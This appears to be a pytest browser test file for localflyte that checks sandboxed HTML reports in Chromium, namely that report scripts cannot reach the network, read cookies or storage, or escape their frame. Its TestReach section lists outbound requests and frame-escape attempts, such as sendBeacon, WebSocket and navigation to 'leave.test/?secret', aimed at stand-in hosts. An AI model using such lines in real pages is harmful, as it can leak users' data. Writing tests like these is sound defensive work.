"""The pages in a real browser, from their files: nothing that a task wrote acts outside its frame, nothing is asked of any network,
and everything that people need works: tabs by mouse and keyboard, links, charts.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from localflyte.observe.page import render_index
from localflyte.observe.report import render_report
from localflyte.runs.record import Recorder
from tests.browsers import CHROMIUM
from tests.browsers import Browser
from tests.browsers import Frame
from tests.browsers import Page
from tests.observe.hostile import CANARIES
from tests.observe.hostile import hostile_run
from tests.observe.streams import fan_out

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM, reason="there is no Chromium here (Debian: apt-get install chromium)"),
]

TESTS = Path(__file__).resolve().parents[1]
SHAPE = "JSON.stringify([...document.querySelectorAll('*')].map(e => [e.tagName, [...e.attributes].map(a => a.name).sort()]))"
SHOWN = "[...document.querySelectorAll('iframe')].filter(e => getComputedStyle(e).visibility == 'visible').map(e => e.id)"
ON_TOP = "document.elementFromPoint(innerWidth / 2, innerHeight / 2).id"


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with Browser(tmp_path_factory.mktemp("profile")) as running:
        yield running


@pytest.fixture(autouse=True)
def no_process_left(no_secret_left: None) -> None:
    """A browser's processes come and go as it likes, and end with it. What runs tasks here is a child that is waited for."""


def saved(folder: Path, name: str, text: str) -> str:
    (folder / name).write_bytes(text.encode("utf-8", "backslashreplace"))
    return (folder / name).as_uri()


def assert_untouched(page: Page, address: str) -> None:
    """Check that the page is what was written, and that nothing ran in it."""
    assert page.top.evaluate("[window.canary, location.href]") == [None, address]
    assert page.events("Page.javascriptDialogOpening") == []
    assert page.events("Target.targetCreated") == []


def frame_of(page: Page, text: str) -> Frame:
    (frame,) = [frame for frame in page.frames if text in frame.evaluate("document.body.textContent")]
    return frame


def report_of(text: str) -> str:
    """:return: a report that is this text wherever it can be, beside a tab with a script, for which the page has to allow them"""
    return render_report(text, text, [(text, text), ("plain", text), (text, "<script>window.ran = 1</script>")])


@pytest.fixture(scope="module")
def shapes(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The elements that both pages have where nobody is hostile."""
    folder = tmp_path_factory.mktemp("plain")
    pages = {"index": render_index(hostile_run("plain")), "report": report_of("plain")}
    return {name: shape_of(browser.open(saved(folder, f"{name}.html", text))) for name, text in pages.items()}


def shape_of(page: Page) -> Any:
    return json.loads(page.top.evaluate(SHAPE))


class TestHostile:
    @pytest.mark.parametrize("place", range(len(CANARIES)))
    def test_row_80_the_page_of_a_run(self, browser: Browser, tmp_path: Path, shapes: dict[str, Any], place: int) -> None:
        address = saved(tmp_path, "index.html", render_index(hostile_run(CANARIES[place])))
        page = browser.open(address)
        assert shape_of(page) == shapes["index"]
        assert page.frames == []
        assert_untouched(page, address)
        assert browser.proxy.pages_asked == []

    @pytest.mark.parametrize("place", range(len(CANARIES)))
    def test_row_80_a_report(self, browser: Browser, tmp_path: Path, shapes: dict[str, Any], place: int) -> None:
        address = saved(tmp_path, "report.html", report_of(CANARIES[place]))
        page = browser.open(address)
        assert shape_of(page) == shapes["report"]
        assert page.top.evaluate("frames.length") == 3
        assert_untouched(page, address)
        assert browser.proxy.pages_asked == []

    def test_row_81_a_page_without_scripts_would_run_none(self, browser: Browser, tmp_path: Path) -> None:
        """The second wall: even an element that got into the page would do nothing."""
        pages = {
            "index.html": render_index(hostile_run("plain")),
            "report.html": render_report("title", "", [("main", "<p>text</p>")]),
        }
        for name, text in pages.items():
            page = browser.open(saved(tmp_path, name, text))
            inject = (
                "const e = document.createElement('script'); e.textContent = 'window.canary = 1'; document.body.append(e); window.canary"
            )
            assert page.top.evaluate(inject) is None

    def test_a_log_is_shown_as_text(self, browser: Browser, run: Path) -> None:
        (log,) = (run / "logs").glob("*.out.txt")
        page = browser.open(log.as_uri())
        assert page.top.evaluate("document.contentType") == "text/plain"
        assert "<script>" in page.top.evaluate("document.body.textContent")
        assert_untouched(page, log.as_uri())


# One attempt of each kind to reach something, with the address that the policy is expected to name as refused.
REACHING = {
    "fetch('http://fetch.test/x')": "http://fetch.test/x",
    "navigator.sendBeacon('http://beacon.test/x', 'x')": "http://beacon.test/x",
    "new EventSource('http://events.test/x')": "http://events.test/x",
    "import('http://import.test/x')": "http://import.test/x",
    "new Image().src = 'http://image.test/x'": "http://image.test/x",
    "add('script').src = 'http://script.test/x'": "http://script.test/x",
    "Object.assign(add('link'), {rel: 'stylesheet', href: 'http://style.test/x'})": "http://style.test/x",
    "add('iframe').src = 'http://frame.test/x'": "http://frame.test",
    "add('video').src = 'http://video.test/x'": "http://video.test/x",
    "add('object').data = 'http://object.test/x'": "http://object.test",
    "new FontFace('x', 'url(http://font.test/x)').load()": "http://font.test/x",
    "new WebSocket('ws://socket.test/x')": "ws://socket.test/x",
}
REACHER = """<p>reaching</p><script>
const refused = [], add = name => document.body.appendChild(document.createElement(name));
const all = new Promise(done => document.addEventListener('securitypolicyviolation', event => {
  refused.push(event.blockedURI); if (new Set(refused).size >= %d) done(refused); }));
for (const attempt of %s) { try { Promise.resolve(eval(attempt)).catch(() => 0) } catch {} }
</script>"""
TOUCHING = {
    "parent.document": "SecurityError",
    "top.canary = 1": "SecurityError",
    "localStorage": "SecurityError",
    "document.cookie": "SecurityError",
    "top.location = 'http://top.test/'": "SecurityError",
    "frameElement && frameElement.id": "null",
    "String(window.open('http://popup.test/'))": "null",
}


class TestReach:
    def test_row_81_scripts_of_a_report_can_ask_nothing_of_the_network(self, browser: Browser, tmp_path: Path) -> None:
        body = REACHER % (len(REACHING), json.dumps(list(REACHING)))
        page = browser.open(saved(tmp_path, "report.html", render_report("t", "", [("main", body)])))
        assert set(frame_of(page, "reaching").evaluate("all")) == set(REACHING.values())
        assert browser.proxy.pages_asked == []

    def test_row_80_scripts_of_a_report_cannot_touch_the_page(self, browser: Browser, tmp_path: Path) -> None:
        address = saved(
            tmp_path, "report.html", render_report("t", "", [("main", "<p>touching</p><script>1</script>"), ("other", "<p>other")])
        )
        page = browser.open(address)
        frame = frame_of(page, "touching")
        told = {
            attempt: frame.evaluate(f"(() => {{ try {{ return String({attempt}) }} catch (error) {{ return error.name }} }})()")
            for attempt in TOUCHING
        }
        assert told == TOUCHING
        assert_untouched(page, address)

    @pytest.mark.parametrize(
        "way", ["location = 'http://leave.test/?secret'", "document.querySelector('a').click()", "document.forms[0].submit()"]
    )
    def test_a_report_cannot_leave_its_frame_for_another_address(self, browser: Browser, tmp_path: Path, way: str) -> None:
        body = f"<a href='http://leave.test/'>x</a><form action='http://leave.test/'></form><script>{way}</script>"
        address = saved(tmp_path, "report.html", render_report("t", "", [("main", body)]))
        page = browser.open(address)
        assert_untouched(page, address)
        assert browser.proxy.pages_asked == []

    def test_a_library_is_asked_for_where_the_report_says_and_nothing_else(self, tmp_path: Path) -> None:
        body = "".join(f"<script src=https://{host}/x.js></script>" for host in ("cdn.plot.ly", "elsewhere.test"))
        with Browser(tmp_path / "profile") as browser:
            browser.open(saved(tmp_path, "report.html", render_report("t", "", [("main", body)])))
            browser.proxy.wait_for("cdn.plot.ly")
            assert {line.split()[1] for line in browser.proxy.pages_asked} == {"cdn.plot.ly:443"}

    def test_what_asks_is_seen(self, tmp_path: Path) -> None:
        """The tests above would not notice much if the proxy heard nothing."""
        with Browser(tmp_path / "profile") as browser:
            page = browser.open(saved(tmp_path, "page.html", "<!doctype html><img src='http://image.test/x'>"))
            page.top.evaluate("fetch('http://fetch.test/x').catch(() => 0)")
            asked = {line.split()[1] for line in browser.proxy.pages_asked}
        assert asked == {"http://image.test/x", "http://fetch.test/x"}


class TestTabs:
    @pytest.fixture
    def page(self, browser: Browser, tmp_path: Path) -> Page:
        tabs = [("one", "<p>first</p>"), ("two", "<p>second</p>"), ("three", "<p>third</p><script>1</script>")]
        return browser.open(saved(tmp_path, "report.html", render_report("t", "", tabs)))

    def test_the_first_is_shown(self, page: Page) -> None:
        assert page.top.evaluate(SHOWN) == ["f0"]
        assert page.top.evaluate(ON_TOP) == "f0"

    def test_by_click(self, page: Page) -> None:
        for place in (2, 1, 0):
            page.click(f"label[for=t{place}]")
            assert page.top.evaluate(SHOWN) == [f"f{place}"]
            assert page.top.evaluate(ON_TOP) == f"f{place}"

    def test_by_keyboard(self, page: Page) -> None:
        page.press("Tab")
        shown = []
        for key in ("ArrowRight", "ArrowRight", "ArrowRight", "ArrowLeft"):
            page.press(key)
            shown += page.top.evaluate(SHOWN)
        assert shown == ["f1", "f2", "f0", "f2"]
        assert page.top.evaluate("getComputedStyle(document.querySelector('label[for=t2]')).outlineStyle") == "solid"

    def test_a_frame_that_waits_has_its_size(self, page: Page) -> None:
        """A chart is drawn when its document is loaded, seen or not."""
        sizes = [frame.evaluate("[innerWidth, innerHeight]") for frame in page.frames]
        assert len(sizes) == 3
        assert all(size == sizes[0] and min(size) > 300 for size in sizes)


CHART = """<canvas id=chart width=40 height=40></canvas><button onclick="document.title = 'pressed'">press</button><script>
const pen = document.getElementById('chart').getContext('2d'); pen.fillStyle = '#f00'; pen.fillRect(0, 0, 40, 40);
window.drawn = new Function('return 6 * 7')();
window.worked = new Promise(done => {
  const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1 + 1)'])));
  worker.onmessage = event => done(event.data); });
</script>"""


class TestCharts:
    def test_a_script_knows_the_size_of_its_frame_from_its_first_line(self, browser: Browser, tmp_path: Path) -> None:
        """In a first frame of its kind a browser is often late in telling it, and a chart was drawn into no space."""
        body = "<p>sized</p><script>window.sizes = [innerWidth, document.body.clientWidth]</script>"
        for place in range(3):
            tabs: list[tuple[str, str]] = [(str(number), body) for number in range(4)]
            page = browser.open(saved(tmp_path, f"{place}.html", render_report("t", "", tabs)))
            assert [frame.evaluate("sizes") for frame in page.frames] == [[1280, 1240]] * 4

    def test_a_frame_without_room_shows_its_document_all_the_same(self, browser: Browser, tmp_path: Path) -> None:
        """A window can be so narrow that a frame has no size, and never will."""
        text = render_report("t", "", [("main", "<p>late</p><script>window.ran = 1</script>")])
        narrow = text.replace("iframe { position", "iframe { max-width: 0; position")
        page = browser.open(saved(tmp_path, "report.html", narrow))
        assert frame_of(page, "late").evaluate("ran") == 1

    def test_scripts_of_a_report_draw_compute_and_answer_clicks(self, browser: Browser, tmp_path: Path) -> None:
        page = browser.open(saved(tmp_path, "report.html", render_report("t", "", [("main", CHART)])))
        frame = frame_of(page, "press")
        assert frame.evaluate("[...pen.getImageData(1, 1, 1, 1).data]") == [255, 0, 0, 255]
        assert frame.evaluate("drawn") == 42
        assert frame.evaluate("worked") == 2
        page.click("button", within=(frame, "#f0"))
        assert (
            frame.evaluate("new Promise(done => { const look = () => document.title ? done(document.title) : setTimeout(look); look() })")
            == "pressed"
        )

    def test_later_scripts_of_a_tab_see_the_earlier(self, browser: Browser, tmp_path: Path) -> None:
        """A report that streams draws once, and then logs one script after another that adds to it."""
        body = "\n".join(
            ["<p>streamed</p><script>const seen = []; window.update = n => seen.push(n)</script>"]
            + [f"<script>update({n})</script>" for n in range(3)]
        )
        page = browser.open(saved(tmp_path, "report.html", render_report("t", "", [("main", body)])))
        assert frame_of(page, "streamed").evaluate("seen") == [0, 1, 2]

    def test_a_whole_document_in_a_tab(self, browser: Browser, tmp_path: Path) -> None:
        body = (
            "<!DOCTYPE html><html><head><title>x</title><style>body{background:rgb(1,2,3)}</style></head><body><p>whole</p></body></html>"
        )
        page = browser.open(saved(tmp_path, "report.html", render_report("t", "", [("main", body)])))
        assert frame_of(page, "whole").evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(1, 2, 3)"


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a real run whose tasks would act if they could."""
    home = tmp_path_factory.mktemp("home")
    command = [sys.executable, "-m", "localflyte", "run", "--plain", str(TESTS / "programs" / "telling.py"), "main"]
    subprocess.run(command, env={**os.environ, "LOCALFLYTE_HOME": str(home)}, capture_output=True, check=False)
    (folder,) = (home / "runs").iterdir()
    return folder


class TestRun:
    def test_from_the_page_of_a_run_to_the_report(self, browser: Browser, run: Path) -> None:
        address = (run / "index.html").as_uri()
        page = browser.open(address)
        assert_untouched(page, address)
        link = page.top.evaluate("document.querySelector('.reports a').href")
        assert link == (run / "reports" / "a0.html").as_uri()
        report = browser.open(link)
        assert report.top.evaluate("document.querySelector('h1').textContent") == "telling.main"
        assert frame_of(report, "of main").evaluate("window.canary") == 1
        assert_untouched(report, link)
        report.click("label[for=t1]")
        assert report.top.evaluate(SHOWN) == ["f1"]
        assert browser.proxy.pages_asked == []

    def test_a_click_opens_the_report(self, browser: Browser, run: Path) -> None:
        page = browser.open((run / "index.html").as_uri())
        page.follow(".reports a")
        assert page.top.evaluate("location.href") == (run / "reports" / "a0.html").as_uri()

    @pytest.mark.parametrize(("dark", "back"), [(False, "rgb(251, 251, 253)"), (True, "rgb(19, 19, 24)")])
    def test_light_and_dark(self, browser: Browser, run: Path, dark: bool, back: str) -> None:
        for name in ("index.html", "reports/a0.html"):
            page = browser.open((run / name).as_uri(), dark=dark)
            assert page.top.evaluate("getComputedStyle(document.body).backgroundColor") == back


def wide_pages() -> dict[str, str]:
    word = "x" * 300
    recorder = Recorder(word)
    for event in fan_out(200, bad=3):
        recorder(event)
    for action in recorder.record.actions.values():
        action.short_name = action.task = word
    recorder.record.task = recorder.record.file = word
    recorder.record.notices = [word]
    recorder.record.actions["a0"].report = f"reports/{word}.html"
    tabs: list[tuple[str, str]] = [(f"{word}{place}", f"<p>{place}</p>") for place in range(40)]
    return {"index.html": render_index(recorder.record), "report.html": render_report(word, word, tabs)}


@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("name", ["index.html", "report.html"])
def test_long_names_do_not_make_a_page_wider_than_its_window(browser: Browser, tmp_path: Path, name: str, width: int) -> None:
    page = browser.open(saved(tmp_path, name, wide_pages()[name]), width=width)
    measured: Any = page.top.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert measured == [width, width]
